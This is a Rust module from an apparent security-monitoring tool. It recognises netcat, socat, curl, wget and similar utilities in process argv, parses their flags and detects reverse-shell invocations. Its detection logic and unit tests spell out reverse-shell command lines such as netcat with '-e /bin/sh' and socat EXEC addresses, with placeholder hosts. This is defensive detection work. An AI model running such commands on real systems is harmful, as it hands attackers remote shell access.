//! Reading a process's argv the way the program itself would.
//!
//! Which watched tool is running (by executable name, comm, argv[0] or busybox applet),
//! which flags it was given (combined short flags such as `-zv`, attached values such
//! as `-w3`, long options with `=`, abbreviated long options), which tokens are option
//! values and which are operands, and whether the command line asks the tool to run a
//! program on the connection (a reverse shell).
//!
//! Everything here reads attacker-controlled text: no function panics on any input.

use std::collections::BTreeSet;

/// Families of watched network utilities.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub enum ToolFamily {
    /// nc, ncat, netcat, nc.openbsd, nc.traditional, `busybox nc`.
    Netcat,
    Socat,
    Telnet,
    Tftp,
    Wget,
    Curl,
}

impl ToolFamily {
    pub const ALL: [ToolFamily; 6] = [
        Self::Netcat,
        Self::Socat,
        Self::Telnet,
        Self::Tftp,
        Self::Wget,
        Self::Curl,
    ];

    /// The name rule files use (`tools = ["netcat"]`).
    pub fn name(self) -> &'static str {
        match self {
            Self::Netcat => "netcat",
            Self::Socat => "socat",
            Self::Telnet => "telnet",
            Self::Tftp => "tftp",
            Self::Wget => "wget",
            Self::Curl => "curl",
        }
    }

    pub fn from_name(name: &str) -> Option<Self> {
        Self::ALL.into_iter().find(|family| family.name() == name)
    }
}

/// Option dialects that differ in which flags take a value.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Dialect {
    /// nc, netcat, nc.openbsd, nc.traditional, busybox nc.
    Netcat,
    /// Nmap's ncat (`-d` takes a delay there).
    Ncat,
    Socat,
    Telnet,
    Tftp,
    Wget,
    Curl,
    /// Not a watched tool: every `-x` letter is a flag, nothing takes a value.
    Generic,
}

/// A watched tool recognised in a process.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Tool {
    pub family: ToolFamily,
    pub dialect: Dialect,
    /// The name that identified it (`nc.openbsd`, `nc` for `busybox nc`, ...).
    pub name: String,
    /// Index in argv of the first argument after the program (and applet) name.
    pub args_start: usize,
}

/// Multi-call binaries whose first argument (or argv[0]) names the applet.
const MULTICALL: &[&str] = &["busybox", "toybox"];

/// The last path component of `path` (all of it when it has no `/`).
pub fn basename(path: &str) -> &str {
    path.rsplit('/').next().unwrap_or(path)
}

fn is_multicall(name: &str) -> bool {
    MULTICALL.contains(&name) || name.starts_with("busybox.") || name.starts_with("busybox-")
}

/// The family and dialect of a program name, for names that are watched.
pub fn tool_of_name(name: &str) -> Option<(ToolFamily, Dialect)> {
    Some(match name {
        "nc" | "netcat" | "nc.openbsd" | "nc.traditional" | "nc6" => {
            (ToolFamily::Netcat, Dialect::Netcat)
        }
        "ncat" => (ToolFamily::Netcat, Dialect::Ncat),
        "socat" => (ToolFamily::Socat, Dialect::Socat),
        "telnet" => (ToolFamily::Telnet, Dialect::Telnet),
        "tftp" => (ToolFamily::Tftp, Dialect::Tftp),
        "wget" => (ToolFamily::Wget, Dialect::Wget),
        "curl" => (ToolFamily::Curl, Dialect::Curl),
        _ => return None,
    })
}

/// The applet a multi-call binary runs: argv[0]'s name when it is not the multi-call
/// binary itself (`/bin/nc -> busybox`), else argv[1] (`busybox nc ...`), else the comm.
/// Returns the applet name and the index of its first argument.
pub fn applet<'a>(comm: &'a str, argv: &'a [String]) -> Option<(&'a str, usize)> {
    match argv.first().map(|arg0| basename(arg0)) {
        Some(arg0) if !arg0.is_empty() && !is_multicall(arg0) => Some((arg0, 1)),
        Some(_) => argv
            .get(1)
            .map(|arg1| (basename(arg1), 2))
            .filter(|(name, _)| !name.is_empty()),
        None if !comm.is_empty() && !is_multicall(comm) => Some((comm, 1)),
        None => None,
    }
}

/// Recognise a watched tool from the executable path, the comm and argv.
///
/// Detection is deliberately generous: any of the executable's file name, the comm,
/// argv[0]'s file name or a busybox/toybox applet naming a watched tool is enough.
pub fn identify(comm: &str, exe_path: Option<&str>, argv: &[String]) -> Option<Tool> {
    let exe_name = exe_path.map(basename).filter(|name| !name.is_empty());
    let multicall = exe_name.is_some_and(is_multicall)
        || (exe_name.is_none() && is_multicall(comm))
        || argv
            .first()
            .is_some_and(|arg0| is_multicall(basename(arg0)));
    let mut candidates: Vec<(&str, usize)> = Vec::with_capacity(4);
    if multicall {
        if let Some(found) = applet(comm, argv) {
            candidates.push(found);
        }
    }
    if let Some(name) = exe_name {
        candidates.push((name, 1));
    }
    candidates.push((comm, 1));
    if let Some(arg0) = argv.first() {
        candidates.push((basename(arg0), 1));
    }
    candidates.into_iter().find_map(|(name, args_start)| {
        tool_of_name(name).map(|(family, dialect)| Tool {
            family,
            dialect,
            name: name.to_string(),
            args_start,
        })
    })
}

/// A long option: its name, whether it takes a value, and its short synonym.
type LongOpt = (&'static str, bool, Option<char>);

/// Netcat short flags that take a value (union of OpenBSD, traditional, busybox, ncat).
const NETCAT_SHORT_VALUE: &str = "ceEgGiImMoOpPqsTVwWxX";
/// Ncat additionally reads a delay after `-d`.
const NCAT_SHORT_VALUE: &str = "cdeEgGiImMoOpPqsTVwWxX";

/// Ncat's long options (also accepted for every netcat: harmless where unsupported).
const NETCAT_LONG: &[LongOpt] = &[
    ("allow", true, None),
    ("allowfile", true, None),
    ("append-output", false, None),
    ("broker", false, None),
    ("chat", false, None),
    ("crlf", false, Some('C')),
    ("delay", true, Some('d')),
    ("deny", true, None),
    ("denyfile", true, None),
    ("exec", true, Some('e')),
    ("help", false, Some('h')),
    ("hex-dump", true, Some('x')),
    ("idle-timeout", true, Some('i')),
    ("keep-open", false, Some('k')),
    ("listen", false, Some('l')),
    ("lua-exec", true, None),
    ("max-conns", true, Some('m')),
    ("no-shutdown", false, None),
    ("nodns", false, Some('n')),
    ("nsock-engine", true, None),
    ("output", true, Some('o')),
    ("proxy", true, None),
    ("proxy-auth", true, None),
    ("proxy-dns", true, None),
    ("proxy-type", true, None),
    ("recv-only", false, None),
    ("sctp", false, None),
    ("send-only", false, None),
    ("sh-exec", true, Some('c')),
    ("source", true, Some('s')),
    ("source-port", true, Some('p')),
    ("ssl", false, None),
    ("ssl-alpn", true, None),
    ("ssl-cert", true, None),
    ("ssl-ciphers", true, None),
    ("ssl-key", true, None),
    ("ssl-servername", true, None),
    ("ssl-trustfile", true, None),
    ("ssl-verify", false, None),
    ("talk", false, None),
    ("telnet", false, Some('t')),
    ("udp", false, Some('u')),
    ("unixsock", false, Some('U')),
    ("verbose", false, Some('v')),
    ("version", false, None),
    ("vsock", false, None),
    ("wait", true, Some('w')),
    ("zero", false, Some('z')),
];

const CURL_SHORT_VALUE: &str = "AbcCdDeEFHKmoPQrTtuUwxXYyz";
const WGET_SHORT_VALUE: &str = "aABDeiIlOoPQRtTUwX";
const TELNET_SHORT_VALUE: &str = "bXeklnS";
const TFTP_SHORT_VALUE: &str = "blmrRc";
/// socat options are whole words (`-lf FILE`), not clusters.
const SOCAT_WORD_VALUE: &[&str] = &["-lf", "-lp", "-r", "-R", "-b", "-t", "-T", "-L", "-W", "-S"];

const WGET_LONG: &[LongOpt] = &[
    ("output-document", true, Some('O')),
    ("output-file", true, Some('o')),
    ("post-data", true, None),
    ("post-file", true, None),
    ("header", true, None),
    ("user-agent", true, Some('U')),
    ("timeout", true, Some('T')),
    ("tries", true, Some('t')),
    ("quiet", false, Some('q')),
];

const CURL_LONG: &[LongOpt] = &[
    ("data", true, Some('d')),
    ("data-binary", true, None),
    ("data-raw", true, None),
    ("header", true, Some('H')),
    ("output", true, Some('o')),
    ("upload-file", true, Some('T')),
    ("user", true, Some('u')),
    ("proxy", true, Some('x')),
    ("request", true, Some('X')),
    ("max-time", true, Some('m')),
    ("connect-timeout", true, None),
    ("silent", false, Some('s')),
    ("insecure", false, Some('k')),
    ("verbose", false, Some('v')),
];

struct Spec {
    short_value: &'static str,
    long: &'static [LongOpt],
    /// getopt_long: unique prefixes of long options are accepted (`--exe` = `--exec`).
    long_abbrev: bool,
    /// Options are whole words (socat), not clusters of letters.
    word_options: bool,
}

fn spec(dialect: Dialect) -> Spec {
    let (short_value, long, long_abbrev, word_options) = match dialect {
        Dialect::Netcat => (NETCAT_SHORT_VALUE, NETCAT_LONG, true, false),
        Dialect::Ncat => (NCAT_SHORT_VALUE, NETCAT_LONG, true, false),
        Dialect::Socat => ("", &[][..], false, true),
        Dialect::Telnet => (TELNET_SHORT_VALUE, &[][..], false, false),
        Dialect::Tftp => (TFTP_SHORT_VALUE, &[][..], false, false),
        Dialect::Wget => (WGET_SHORT_VALUE, WGET_LONG, true, false),
        Dialect::Curl => (CURL_SHORT_VALUE, CURL_LONG, false, false),
        Dialect::Generic => ("", &[][..], false, false),
    };
    Spec {
        short_value,
        long,
        long_abbrev,
        word_options,
    }
}

/// An argv split into flags, option values and operands.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct ParsedArgs {
    /// Flags as written in a rule: `-z`, `-w`, `--wait`. A long option with a short
    /// synonym is recorded under both spellings (`--wait` also adds `-w`); an
    /// abbreviated long option under its full name.
    pub flags: BTreeSet<String>,
    /// (flag, value) for options that took a value: `-w3` gives ("-w", "3").
    pub values: Vec<(String, String)>,
    /// Arguments that are neither flags nor option values (hosts, ports, addresses).
    pub operands: Vec<String>,
    /// Every argument after the program name, as given.
    pub tokens: Vec<String>,
}

impl ParsedArgs {
    pub fn has_flag(&self, flag: &str) -> bool {
        self.flags.contains(flag)
    }

    /// Operands and option values: the argument tokens rules match with `args`.
    pub fn arguments(&self) -> impl Iterator<Item = &str> {
        self.operands
            .iter()
            .map(String::as_str)
            .chain(self.values.iter().map(|(_, value)| value.as_str()))
    }
}

/// Resolve a long option name as getopt_long would: an exact name, else a unique
/// prefix when the dialect allows abbreviations.
fn resolve_long(spec: &Spec, name: &str) -> Option<LongOpt> {
    if let Some(exact) = spec.long.iter().find(|(long, _, _)| *long == name) {
        return Some(*exact);
    }
    if !spec.long_abbrev || name.is_empty() {
        return None;
    }
    let mut matches = spec
        .long
        .iter()
        .filter(|(long, _, _)| long.starts_with(name));
    match (matches.next(), matches.next()) {
        (Some(only), None) => Some(*only),
        _ => None,
    }
}

/// Parse the arguments after the program name with the dialect's option table.
///
/// Like GNU getopt, options may follow operands; `--` ends options.
pub fn parse(dialect: Dialect, args: &[String]) -> ParsedArgs {
    let spec = spec(dialect);
    let mut parsed = ParsedArgs {
        tokens: args.to_vec(),
        ..ParsedArgs::default()
    };
    let mut index = 0;
    let mut options_done = false;
    while let Some(token) = args.get(index) {
        index += 1;
        if options_done || token == "-" || !token.starts_with('-') {
            parsed.operands.push(token.clone());
            continue;
        }
        if token == "--" {
            options_done = true;
            continue;
        }
        if spec.word_options {
            parsed.flags.insert(token.clone());
            if SOCAT_WORD_VALUE.contains(&token.as_str()) {
                if let Some(value) = args.get(index) {
                    parsed.values.push((token.clone(), value.clone()));
                    index += 1;
                }
            }
            continue;
        }
        if let Some(long) = token.strip_prefix("--") {
            let (name, inline) = match long.split_once('=') {
                Some((name, value)) => (name, Some(value)),
                None => (long, None),
            };
            let (flag, takes_value) = match resolve_long(&spec, name) {
                Some((full, takes_value, short)) => {
                    if let Some(short) = short {
                        parsed.flags.insert(format!("-{short}"));
                    }
                    (format!("--{full}"), takes_value)
                }
                None => (format!("--{name}"), false),
            };
            parsed.flags.insert(flag.clone());
            if let Some(value) = inline {
                parsed.values.push((flag, value.to_string()));
            } else if takes_value {
                if let Some(value) = args.get(index) {
                    parsed.values.push((flag, value.clone()));
                    index += 1;
                }
            }
            continue;
        }
        // A cluster of short flags: `-zv`, `-w3`, `-lvp4444`, `-e/bin/sh`.
        let cluster = &token[1..];
        for (offset, letter) in cluster.char_indices() {
            let flag = format!("-{letter}");
            parsed.flags.insert(flag.clone());
            if spec.short_value.contains(letter) {
                let rest = &cluster[offset + letter.len_utf8()..];
                if !rest.is_empty() {
                    parsed.values.push((flag, rest.to_string()));
                } else if let Some(value) = args.get(index) {
                    parsed.values.push((flag, value.clone()));
                    index += 1;
                }
                break;
            }
        }
    }
    parsed
}

/// Why a command line counts as a reverse shell.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct ReverseShell {
    /// The argument that asked for it (`-e`, `--sh-exec`, `EXEC:/bin/sh`, `-lvpe`).
    pub evidence: String,
}

/// Netcat flags that run a program with the connection as its stdin/stdout.
const NETCAT_EXEC_FLAGS: &[&str] = &["--exec", "--sh-exec", "--lua-exec", "-e", "-c"];
/// socat address types that run a program.
const SOCAT_EXEC_ADDRESSES: &[&str] = &["exec", "system", "shell"];

/// Whether the tool's arguments ask it to run a program on the connection.
///
/// Netcat: `-e`, `-c`, `--exec`, `--sh-exec`, `--lua-exec` (also abbreviated, with `=`,
/// with an attached value as in `-e/bin/sh`, or inside a cluster). A cluster of letters
/// that contains `e` or `c` counts even where getopt would read those letters as the
/// value of an earlier option (`-lvpe`): erring towards reporting is the safe side.
/// socat: an `EXEC:`, `SYSTEM:` or `SHELL:` address, on either side of a `!!` pair.
pub fn reverse_shell(tool: &Tool, parsed: &ParsedArgs) -> Option<ReverseShell> {
    match tool.family {
        ToolFamily::Netcat => {
            if let Some(flag) = NETCAT_EXEC_FLAGS.iter().find(|flag| parsed.has_flag(flag)) {
                return Some(ReverseShell {
                    evidence: (*flag).to_string(),
                });
            }
            for token in &parsed.tokens {
                if token == "--" {
                    break;
                }
                let Some(cluster) = token.strip_prefix('-') else {
                    continue;
                };
                if cluster.starts_with('-') || cluster.is_empty() {
                    continue;
                }
                if cluster.chars().all(|c| c.is_ascii_alphanumeric())
                    && cluster.contains(['e', 'c'])
                {
                    return Some(ReverseShell {
                        evidence: token.clone(),
                    });
                }
            }
            None
        }
        ToolFamily::Socat => parsed
            .tokens
            .iter()
            .filter(|token| !token.starts_with('-'))
            .find(|token| {
                token.split("!!").any(|address| {
                    let kind = address
                        .trim_start()
                        .split([':', ','])
                        .next()
                        .unwrap_or_default()
                        .trim();
                    SOCAT_EXEC_ADDRESSES
                        .iter()
                        .any(|exec| kind.eq_ignore_ascii_case(exec))
                })
            })
            .map(|token| ReverseShell {
                evidence: token.clone(),
            }),
        _ => None,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn argv(words: &[&str]) -> Vec<String> {
        words.iter().map(|word| word.to_string()).collect()
    }

    fn parse_nc(words: &[&str]) -> ParsedArgs {
        parse(Dialect::Netcat, &argv(words))
    }

    fn flags(parsed: &ParsedArgs) -> Vec<&str> {
        parsed.flags.iter().map(String::as_str).collect()
    }

    #[test]
    fn combined_short_flags() {
        let parsed = parse_nc(&["-zv", "10.0.0.1", "22"]);
        assert_eq!(flags(&parsed), ["-v", "-z"]);
        assert_eq!(parsed.operands, ["10.0.0.1", "22"]);
        let parsed = parse_nc(&["-nvz", "host", "1-1024"]);
        assert_eq!(flags(&parsed), ["-n", "-v", "-z"]);
        assert_eq!(parsed.operands, ["host", "1-1024"]);
    }

    #[test]
    fn attached_and_separate_values() {
        let attached = parse_nc(&["-w3", "host", "22"]);
        assert_eq!(flags(&attached), ["-w"]);
        assert_eq!(attached.values, [("-w".to_string(), "3".to_string())]);
        assert_eq!(attached.operands, ["host", "22"]);

        let separate = parse_nc(&["-w", "3", "host", "22"]);
        assert_eq!(separate.values, attached.values);
        assert_eq!(
            separate.operands,
            ["host", "22"],
            "3 is -w's value, not a host"
        );

        let cluster = parse_nc(&["-vzw", "5", "host", "80"]);
        assert_eq!(flags(&cluster), ["-v", "-w", "-z"]);
        assert_eq!(cluster.values, [("-w".to_string(), "5".to_string())]);
        assert_eq!(cluster.operands, ["host", "80"]);

        let port = parse_nc(&["-lvp4444"]);
        assert_eq!(flags(&port), ["-l", "-p", "-v"]);
        assert_eq!(port.values, [("-p".to_string(), "4444".to_string())]);
    }

    #[test]
    fn long_options() {
        let parsed = parse(
            Dialect::Ncat,
            &argv(&[
                "--wait=3",
                "--verbose",
                "--source-port",
                "5555",
                "host",
                "80",
            ]),
        );
        assert!(parsed.has_flag("--wait") && parsed.has_flag("-w"));
        assert!(parsed.has_flag("--verbose") && parsed.has_flag("-v"));
        assert_eq!(
            parsed.values,
            [
                ("--wait".to_string(), "3".to_string()),
                ("--source-port".to_string(), "5555".to_string())
            ]
        );
        assert_eq!(parsed.operands, ["host", "80"]);
        // Unique prefixes resolve as getopt_long does.
        let abbreviated = parse(Dialect::Ncat, &argv(&["--exe", "/bin/sh", "h", "1"]));
        assert!(abbreviated.has_flag("--exec") && abbreviated.has_flag("-e"));
        assert_eq!(abbreviated.operands, ["h", "1"]);
        // Ambiguous prefixes stay as written.
        let ambiguous = parse(Dialect::Ncat, &argv(&["--s", "h"]));
        assert!(ambiguous.has_flag("--s"));
        // `--` ends options.
        let ended = parse_nc(&["--", "-z"]);
        assert!(ended.flags.is_empty());
        assert_eq!(ended.operands, ["-z"]);
    }

    #[test]
    fn ncat_delay_takes_a_value_openbsd_d_does_not() {
        let ncat = parse(Dialect::Ncat, &argv(&["-d", "1", "host", "80"]));
        assert_eq!(ncat.operands, ["host", "80"]);
        let openbsd = parse_nc(&["-d", "host", "80"]);
        assert_eq!(openbsd.operands, ["host", "80"]);
    }

    #[test]
    fn identify_netcat_family() {
        let nc = identify(
            "nc",
            Some("/usr/bin/nc.openbsd"),
            &argv(&["nc", "-z", "h", "1"]),
        );
        let nc = nc.expect("nc.openbsd");
        assert_eq!(
            (nc.family, nc.name.as_str(), nc.args_start),
            (ToolFamily::Netcat, "nc.openbsd", 1)
        );

        let trad = identify("nc.traditional", None, &argv(&["nc.traditional"])).expect("trad");
        assert_eq!(trad.family, ToolFamily::Netcat);

        let ncat = identify("ncat", Some("/usr/bin/ncat"), &argv(&["ncat"])).expect("ncat");
        assert_eq!(ncat.dialect, Dialect::Ncat);

        assert_eq!(
            identify("sshd", Some("/usr/sbin/sshd"), &argv(&["sshd"])),
            None
        );
    }

    #[test]
    fn identify_busybox_nc() {
        // `busybox nc host 80`: the applet is argv[1].
        let explicit = identify(
            "busybox",
            Some("/bin/busybox"),
            &argv(&["busybox", "nc", "-e", "/bin/sh", "h", "1"]),
        )
        .expect("busybox nc");
        assert_eq!((explicit.name.as_str(), explicit.args_start), ("nc", 2));
        assert_eq!(explicit.family, ToolFamily::Netcat);

        // `/bin/nc -> busybox`: exe is busybox, argv[0] and comm are nc.
        let symlink =
            identify("nc", Some("/bin/busybox"), &argv(&["nc", "h", "1"])).expect("applet");
        assert_eq!((symlink.name.as_str(), symlink.args_start), ("nc", 1));

        // Other applets are not netcat; busybox wget is wget.
        assert_eq!(
            identify("busybox", Some("/bin/busybox"), &argv(&["busybox", "ls"])),
            None
        );
        let wget = identify(
            "busybox",
            Some("/bin/busybox"),
            &argv(&["busybox", "wget", "u"]),
        );
        assert_eq!(wget.map(|t| t.family), Some(ToolFamily::Wget));
        // No argv at all (capture failed): busybox alone is not a tool.
        assert_eq!(identify("busybox", Some("/bin/busybox"), &[]), None);
    }

    fn shell_of(comm: &str, words: &[&str]) -> Option<String> {
        let argv = argv(words);
        let tool = identify(comm, None, &argv)?;
        let parsed = parse(
            tool.dialect,
            argv.get(tool.args_start..).unwrap_or_default(),
        );
        reverse_shell(&tool, &parsed).map(|shell| shell.evidence)
    }

    #[test]
    fn reverse_shell_flags() {
        let cases: &[(&str, &[&str], &str)] = &[
            ("nc", &["nc", "-e", "/bin/sh", "h", "1"], "-e"),
            ("nc", &["nc", "h", "1", "-e", "/bin/sh"], "-e"),
            ("nc", &["nc", "-e/bin/sh", "h", "1"], "-e"),
            ("nc", &["nc", "-c", "sh", "h", "1"], "-c"),
            ("nc", &["nc", "-lvpe", "4444"], "-lvpe"),
            ("nc", &["nc", "-lvnp", "4444", "-e", "/bin/bash"], "-e"),
            ("ncat", &["ncat", "--exec", "/bin/sh", "h", "1"], "--exec"),
            ("ncat", &["ncat", "--sh-exec=sh", "h", "1"], "--sh-exec"),
            (
                "ncat",
                &["ncat", "--lua-exec", "x.lua", "h", "1"],
                "--lua-exec",
            ),
            ("ncat", &["ncat", "--exe", "/bin/sh", "h", "1"], "--exec"),
            ("busybox", &["busybox", "nc", "h", "1", "-e", "sh"], "-e"),
            (
                "socat",
                &["socat", "TCP:h:1", "EXEC:/bin/sh,pty,stderr"],
                "EXEC:/bin/sh,pty,stderr",
            ),
            (
                "socat",
                &["socat", "-d", "-d", "tcp:h:1", "system:sh"],
                "system:sh",
            ),
            (
                "socat",
                &["socat", "STDIO!!exec:sh", "TCP:h:1"],
                "STDIO!!exec:sh",
            ),
        ];
        for (comm, words, evidence) in cases {
            assert_eq!(
                shell_of(comm, words).as_deref(),
                Some(*evidence),
                "{words:?}"
            );
        }
        let benign: &[(&str, &[&str])] = &[
            ("nc", &["nc", "-zv", "h", "22"]),
            ("nc", &["nc", "-w", "3", "h", "22"]),
            ("nc", &["nc", "-q0", "backup", "9000"]),
            (
                "nc",
                &["nc", "-x", "proxy:1080", "-X", "connect", "h", "22"],
            ),
            ("nc", &["nc", "--", "-e"]),
            ("socat", &["socat", "TCP-LISTEN:80,fork", "TCP:h:80"]),
            ("curl", &["curl", "-e", "http://referer", "http://h/"]),
        ];
        for (comm, words) in benign {
            assert_eq!(shell_of(comm, words), None, "{words:?}");
        }
    }

    #[test]
    fn hostile_tokens_do_not_panic() {
        let weird = argv(&["-\u{e9}w", "-w", "--=", "--", "-\u{fffd}", "\n-e"]);
        for dialect in [
            Dialect::Netcat,
            Dialect::Ncat,
            Dialect::Socat,
            Dialect::Curl,
        ] {
            let _ = parse(dialect, &weird);
        }
        let multi = parse_nc(&["-\u{e9}w3"]);
        assert_eq!(multi.values, [("-w".to_string(), "3".to_string())]);
        assert_eq!(basename(""), "");
        assert_eq!(basename("/usr/bin/"), "");
    }
}
